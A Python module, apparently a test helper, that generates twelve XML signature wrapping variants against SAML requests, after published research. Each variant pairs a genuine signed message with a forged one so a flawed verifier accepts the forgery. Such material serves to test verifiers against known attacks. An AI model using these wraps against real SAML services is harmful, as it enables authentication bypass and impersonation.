"""Signature wrapping: a genuine signed message, and another one around, beside or inside it that wants its signature.

After Somorovsky et al., On Breaking SAML (USENIX Security 2012), for requests instead of assertions.
"""

import re
from collections.abc import Callable, Mapping
from typing import Final

_SIGNATURE = re.compile(r"<ds:Signature .*?</ds:Signature>", re.DOTALL)

Wrap = Callable[[str, str], str]
"""From a genuine signed message and a forged unsigned one to what is sent."""


def _signature(genuine: str) -> str:
    found = _SIGNATURE.search(genuine)
    assert found
    return found[0]


def _bare(genuine: str) -> str:
    return _SIGNATURE.sub("", genuine)


def _after_issuer(message: str, part: str) -> str:
    return message.replace("</saml:Issuer>", f"</saml:Issuer>{part}", 1)


def _extended(message: str, *parts: str) -> str:
    return _after_issuer(message, f"<samlp:Extensions>{''.join(parts)}</samlp:Extensions>")


def _at_end(message: str, part: str) -> str:
    head, _, tail = message.rpartition("</samlp:")
    return f"{head}{part}</samlp:{tail}"


def _in_object(genuine: str, inside: str) -> str:
    return _signature(genuine).replace("</ds:Signature>", f"<ds:Object>{inside}</ds:Object></ds:Signature>")


def _same_id(genuine: str, forged: str) -> str:
    ident = re.search(r' ID="([^"]+)"', genuine)
    assert ident
    return re.sub(r' ID="[^"]+"', f' ID="{ident[1]}"', forged, count=1)


WRAPS: Final[Mapping[str, Wrap]] = {
    "the genuine one whole in the extensions": lambda g, f: _extended(f, g),
    "its signature first, the genuine one in the extensions": lambda g, f: _after_issuer(
        _extended(f, _bare(g)), _signature(g)
    ),
    "the same under the same ID": lambda g, f: _after_issuer(_extended(_same_id(g, f), _bare(g)), _signature(g)),
    "the genuine one inside its signature": lambda g, f: _after_issuer(f, _in_object(g, _bare(g))),
    "the same under the same ID, inside": lambda g, f: _after_issuer(_same_id(g, f), _in_object(g, _bare(g))),
    "the signature at the end": lambda g, f: _at_end(_extended(f, _bare(g)), _signature(g)),
    "two signatures": lambda g, f: _after_issuer(_extended(f, g), _signature(g)),
    "the forged one in the extensions of the genuine": _extended,
    "the forged one around a comment of the genuine": lambda g, f: _after_issuer(f, f"<!-- {_signature(g)} -->"),
    "the signature alone": lambda g, f: _after_issuer(f, _signature(g)),
    "the signature alone under the same ID": lambda g, f: _after_issuer(_same_id(g, f), _signature(g)),
    "an ID of another name": lambda g, f: _extended(
        _after_issuer(_same_id(g, f), _signature(g)), _bare(g).replace(' ID="', ' Id="')
    ),
}
